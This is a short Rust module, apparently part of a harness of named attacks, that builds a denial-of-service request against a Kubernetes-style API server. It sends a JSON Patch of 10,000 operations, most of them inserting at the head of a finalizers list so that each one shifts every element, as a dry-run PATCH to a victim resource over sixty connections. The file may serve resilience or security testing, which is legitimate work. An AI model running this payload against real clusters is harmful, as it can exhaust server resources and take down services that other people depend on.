//! A JSON patch whose every operation moves all elements of a list.

use super::{Attack, Request, SIXTY, VICTIM};
use serde_json::{Value, json};

pub(super) const ATTACK: Attack =
    Attack { name: "json-patch", connections: SIXTY, by_administrator: Vec::new, prepare: || Vec::new(), request };

fn request() -> Request {
    let insert = json!({"op": "add", "path": "/metadata/finalizers/0", "value": "example.com/f"});
    let first = json!({"op": "add", "path": "/metadata/finalizers", "value": []});
    let operations: Vec<Value> = [first].into_iter().chain(vec![insert; 9_999]).collect();
    Request {
        method: "PATCH",
        path: format!("{VICTIM}?dryRun=All"),
        content_type: "application/json-patch+json",
        body: Value::from(operations).to_string(),
    }
}
